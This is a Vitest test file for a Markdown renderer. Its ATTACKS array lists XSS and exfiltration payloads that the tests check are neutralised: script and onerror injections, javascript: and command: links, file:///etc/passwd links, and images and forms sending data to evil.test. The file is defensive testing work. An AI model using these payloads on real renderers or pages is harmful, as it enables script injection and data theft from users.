// @vitest-environment happy-dom
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { BlockStream, render, splitBlocks } from '../../../../src/ui/text/markdown.ts'

function html(source: string, streaming = false): string {
  const box = document.createElement('div')
  box.append(render(source, streaming))
  return box.innerHTML
}

const ATTACKS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '![pixel](https://evil.test/?data=1)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](vbscript:x)',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](command:workbench.action.terminal.new)',
  '[a](vscode://file/etc/passwd)',
  '[a](https://x.test/"onmouseover="alert(1))',
  '<a href="https://evil.test" style="position:fixed">x</a>',
  '<svg><style>@import url(https://evil.test)</style></svg>',
  '```js" onmouseover="alert(1)\nx\n```',
  '<iframe src="https://evil.test"></iframe>',
  '<https://evil.test/auto>',
  '![](http://127.0.0.1:9/?data=secret)',
  '[![](http://127.0.0.1:9/?data=1)](http://127.0.0.1:9/?data=2)',
  '![x][p]\n\n[p]: http://127.0.0.1:9/?data=1',
  '<link rel="prefetch" href="http://127.0.0.1:9/">',
  '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">',
  '<div style="background:url(http://127.0.0.1:9/)">x</div>',
  '<svg><image href="http://127.0.0.1:9/x"/></svg>',
  '<math><mtext><img src=http://127.0.0.1:9/></mtext></math>',
  '<video poster="http://127.0.0.1:9/"></video><audio src="http://127.0.0.1:9/"></audio>',
  '<object data="http://127.0.0.1:9/"></object><embed src="http://127.0.0.1:9/">',
  '<form action="http://127.0.0.1:9/"><input name=a></form>',
  '```mermaid\ngraph TD; A[<img src=http://127.0.0.1:9/>]\n```',
  '```html\n<img src="http://127.0.0.1:9/">\n```',
  '| <img src=http://127.0.0.1:9/> |\n| --- |\n| x |',
  '&lt;img src=x onerror=alert(1)&gt;',
  '[a](file:///etc/passwd)',
  '[a](vscode-insiders://x)',
  '[a](command%3Aworkbench.action.quit)',
]

describe('rendered Markdown', () => {
  for (const attack of ATTACKS) {
    it(`can neither load, navigate nor run anything: ${attack.slice(0, 40)}`, () => {
      const box = document.createElement('div')
      box.append(render(attack))
      expect(box.querySelector('script, img, svg, style, iframe, object, embed, form, input, link, base')).toBeNull()
      for (const node of box.querySelectorAll('*')) {
        expect(node.getAttributeNames().filter((name) => /^on|^style$|^href$|^src/.test(name))).toEqual([])
        expect(node.getAttribute('data-href') ?? '').not.toMatch(/^(?:javascript|vbscript|data|command|vscode):/i)
      }
    })
  }

  it('keeps links as something to ask the host for, with their target in the title', () => {
    expect(html('[docs](https://a.test/x)')).toContain('role="link"')
    expect(html('[docs](https://a.test/x)')).toContain('data-href="https://a.test/x"')
    expect(html('[file](src/a.ts)')).toContain('data-href="src/a.ts"')
    expect(html('![a picture](https://a.test/p.png)')).toContain('>a picture</a>')
  })

  it('writes a web address as it will be opened, and makes no link of one that hides its host', () => {
    expect(html('[x](https://gіthub.com/a)')).toContain('data-href="https://xn--gthub-n2e.com/a"')
    expect(html('[x](https://github.com@evil.test/a)')).toBe('<a>x</a>\n')
    expect(html('[x](HTTPS://A.test)')).toContain('title="https://a.test/"')
  })

  it('colours code when it stands, not while it streams', () => {
    expect(html('```ts\nconst a = 1\n```')).toContain('hljs-keyword')
    expect(html('```ts\nconst a = 1\n```', true)).not.toContain('hljs-keyword')
  })
})

describe('blocks of a stream', () => {
  it('close when a next one begins', () => {
    expect(splitBlocks('# A\n\nfirst\n\nsecond')).toEqual({ closed: ['# A\n', 'first\n'], open: 'second' })
    expect(splitBlocks('- a\n\n- b')).toEqual({ closed: [], open: '- a\n\n- b' })
    expect(splitBlocks('```\na\n\nb')).toEqual({ closed: [], open: '```\na\n\nb' })
  })

  it('say the same in the end, however the text was cut', () => {
    const text =
      '# Title\n\nA *paragraph*\nof two lines.\n\n- one\n- two\n\n  still two\n\n```ts\nlet a\n\nlet b\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\nEnd.'
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: text.length }), { maxLength: 30 }), (cuts) => {
        const stream = new BlockStream()
        for (const cut of cuts.toSorted((a, b) => a - b)) stream.update(text.slice(0, cut))
        const { closed, open } = stream.update(text)
        expect([...closed, open].join('\n').replace(/\n+/g, '\n')).toBe(text.replace(/\n+/g, '\n'))
        expect(open).toBe('End.')
      }),
      { seed: 7, numRuns: 200 },
    )
  })

  it('keep the closed ones as they are', () => {
    const stream = new BlockStream()
    const first = stream.update('a\n\nb').closed
    expect(stream.update('a\n\nb more').closed).toBe(first)
  })
})
